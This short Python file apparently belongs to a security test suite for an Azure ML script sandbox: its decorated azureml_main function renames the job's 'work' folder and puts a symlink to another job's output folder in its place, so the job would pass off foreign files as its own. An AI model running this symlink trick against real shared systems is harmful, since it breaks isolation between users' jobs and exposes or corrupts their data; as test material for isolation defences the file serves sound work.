"""Swaps its working directory for a link to a foreign folder, whose files would be kept as its own."""

import os

from attack import BAIT, attack, job_folder


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    folder = job_folder()
    os.rename(os.path.join(folder, "work"), os.path.join(folder, "was-work"))
    os.symlink(os.path.join(BAIT["foreign_outputs"], "files"), os.path.join(folder, "work"))
    return ""
